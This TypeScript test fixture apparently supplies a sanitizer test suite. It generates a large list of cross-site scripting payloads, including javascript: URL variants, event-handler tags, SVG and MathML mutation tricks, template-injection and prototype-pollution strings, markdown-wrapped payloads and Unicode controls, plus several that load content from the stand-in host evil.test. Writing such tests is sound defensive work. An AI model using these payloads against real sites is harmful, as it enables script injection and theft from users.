/** What would run if it were executed: it sets a property that the test reads. */
const CODE = "window.owned=1";
const ENCODED = [...CODE].map((letter) => `&#${letter.charCodeAt(0)};`).join("");

const schemes = [
  ...[
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\u0001javascript:",
  ],
  ...[
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
  ],
  ...["%6Aavascript:", "javascript%3A", "\\javascript:", "vbscript:", "VBScript:", "livescript:"],
  ...[
    "data:text/html,",
    "data:text/html;base64,",
    "DATA:image/svg+xml,",
    "blob:",
    "file:///",
    "view-source:",
  ],
  ...[
    "filesystem:",
    "jar:",
    "mhtml:",
    "feed:javascript:",
    "about:",
    "//",
    "\\\\",
    "http:javascript:",
  ],
];

const inLinks = schemes.flatMap((scheme) => {
  const address = `${scheme}${CODE}`;
  return [`[a](${address})`, `<${address}>`, `<a href="${address}">a</a>`];
});

const handlers = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin"];
const elements = handlers.flatMap((handler) => [
  `<img src=x ${handler}="${CODE}">`,
  `<svg ${handler}=${CODE}>`,
  `<details open ${handler}=${CODE}><summary>a</summary></details>`,
  `<input autofocus ${handler}=${CODE}>`,
  `"><body ${handler}=${CODE}>`,
]);

const documents = [
  ...[
    `<script>${CODE}</script>`,
    `<SCRIPT SRC=//evil.test/a.js></SCRIPT>`,
    `<scr<script>ipt>${CODE}</script>`,
  ],
  ...[
    `<script\u0000>${CODE}</script>`,
    `<script/x>${CODE}</script>`,
    `</script><script>${CODE}</script>`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.owned=1</script>">`,
    `<iframe src="javascript:parent.owned=1">`,
  ],
  ...[
    `<object data="data:text/html,<script>${CODE}</script>">`,
    `<embed src="javascript:${CODE}">`,
  ],
  ...[
    `<base href="//evil.test/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  ],
  ...[
    `<link rel=stylesheet href=//evil.test/a.css>`,
    `<style>*{background:url(//evil.test)}</style>`,
  ],
  ...[
    `<form action="javascript:${CODE}"><button>a</button></form>`,
    `<isindex action=javascript:${CODE}>`,
  ],
  ...[`<svg><script>${CODE}</script></svg>`, `<svg><a xlink:href="javascript:${CODE}">a</a></svg>`],
  ...[
    `<svg><animate onbegin=${CODE} attributeName=x>`,
    `<svg><set attributeName=href to=javascript:${CODE}>`,
  ],
  ...[
    `<svg><foreignObject><img src=x onerror=${CODE}></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x">`,
  ],
  ...[
    `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
    `<math href="javascript:${CODE}">a</math>`,
  ],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
    `<template><img src=x onerror=${CODE}></template>`,
  ],
  ...[
    `<xmp><p title="</xmp><img src=x onerror=${CODE}>">`,
    `<textarea><img title="</textarea><img src=x onerror=${CODE}>">`,
  ],
  ...[
    `<video><source onerror=${CODE}></video>`,
    `<audio src=x onerror=${CODE}>`,
    `<marquee onstart=${CODE}>a</marquee>`,
  ],
  ...[
    `<table background="javascript:${CODE}">`,
    `<div style="background:url(javascript:${CODE})">`,
  ],
  ...[
    `<img src=x:x onerror=${ENCODED}>`,
    `<img src="x\`\` onerror=${CODE}">`,
    `<img """><script>${CODE}</script>">`,
  ],
  ...[
    `<!--<img src="--><img src=x onerror=${CODE}//">`,
    `<![CDATA[<img src=x onerror=${CODE}>]]>`,
    `<?xml ?><x onload=${CODE}>`,
  ],
  ...[
    `<p/onclick=${CODE}>a`,
    `<x contenteditable onblur=${CODE}>a`,
    `<slot name=x onslotchange=${CODE}>`,
  ],
  ...[`<rally-app>`, `<rally-confirm-dialog open>`, `<wa-dialog open label=a>`, `<custom-element>`],
];

const templates = [
  ...[
    `\${${CODE}}`,
    `{{${CODE}}}`,
    `{{constructor.constructor('${CODE}')()}}`,
    `<%= ${CODE} %>`,
    `#{${CODE}}`,
  ],
  ...[
    `lit$123456789$`,
    `<!--?lit$123456789$-->`,
    `<?lit$0$>`,
    `@click=\${${CODE}}`,
    `.innerHTML=<img src=x onerror=${CODE}>`,
  ],
  ...[
    `__proto__`,
    `constructor`,
    `{"__proto__":{"owned":1}}`,
    `{"_$litType$":1,"strings":["<img src=x onerror=${CODE}>"]}`,
  ],
  ...[
    `';${CODE}//`,
    `";${CODE}//`,
    `\`;${CODE}//`,
    `-->${CODE}`,
    `]]>${CODE}`,
    `\\";${CODE}//`,
    `\\u003cscript\\u003e${CODE}`,
  ],
  ...[
    `%3Cscript%3E${CODE}%3C/script%3E`,
    `&lt;script&gt;${CODE}&lt;/script&gt;`,
    `+ADw-script+AD4-${CODE}`,
  ],
];

const image = `<img src=x onerror=${CODE}>`;
const inMarkup = [
  ...[
    `**${image}**`,
    `_${image}_`,
    `~~${image}~~`,
    `||${image}||`,
    `\`${image}\``,
    `> ${image}`,
    `- ${image}`,
    `1. ${image}`,
  ],
  ...[
    `\`\`\`html\n${image}\n\`\`\``,
    `\`\`\`"onload=${CODE}\n${image}\n\`\`\``,
    `\`\`\`<script>\n${CODE}\n\`\`\``,
  ],
  ...[
    `\`\`\`js\n</code></pre>${image}\n\`\`\``,
    `\`\`\`xml\n<!--${image}\n\`\`\``,
    `\`\`\`\n${image}`,
  ],
  ...[
    `[${image}](https://a.test)`,
    `[a](https://a.test"onmouseover="${CODE})`,
    `[a](https://a.test 'x' onclick=${CODE})`,
  ],
  ...[
    `[a](https://a.test/<script>)`,
    `[a](https://a.test/\${${CODE}})`,
    `[a](https://javascript:${CODE}@a.test)`,
  ],
  ...[`![a](x"onerror="${CODE})`, `![a](javascript:${CODE})`, `![a](https://evil.test/pixel.png)`],
  ...[
    `[a]: javascript:${CODE}\n[a]`,
    `[a][b]\n\n[b]: javascript:${CODE}`,
    `[\`](javascript:${CODE})\``,
  ],
  ...[
    `https://a.test/"onclick="${CODE}`,
    `https://a.test/'onclick='${CODE}`,
    `https://a.test/<img/src=x/onerror=${CODE}>`,
  ],
  ...[
    `https://a.test/javascript:${CODE}`,
    `http://\${${CODE}}`,
    `https://a.test\\@evil.test`,
    `https://[::1]/`,
    `http://[${image}]`,
  ],
  ...[
    `@<script>${CODE}</script>`,
    `@ada"onclick="${CODE}`,
    `@__proto__`,
    `@constructor`,
    `@everyone${image}`,
  ],
  ...[
    `||[a](javascript:${CODE})||`,
    `[||a||](javascript:${CODE})`,
    `[a](https://a.test)<script>${CODE}</script>`,
  ],
  ...[
    `***${image}`,
    `**[*](javascript:${CODE})*`,
    `> > > - ${image}`,
    `# ${image}`,
    `| ${image} |\n|-|`,
  ],
];

const controls = [
  ...[
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u200f",
    "\u061c",
    "\u200b",
    "\ufeff",
    "\u0001",
    "\u001b[31m",
    "\u2028",
    "\u0085",
  ],
].flatMap((control) => [
  `${control}${image}`,
  `[a${control}b](https://a.test/${control}gpj.exe)`,
  `\`a${control}b\``,
]);

/** Texts that run code, load something or look like something else where they are read as markup. */
export const hostileTexts: readonly string[] = [
  ...inLinks,
  ...elements,
  ...documents,
  ...templates,
  ...inMarkup,
  ...controls,
].map((text) => text.replaceAll("\u0000", "\ufffd"));
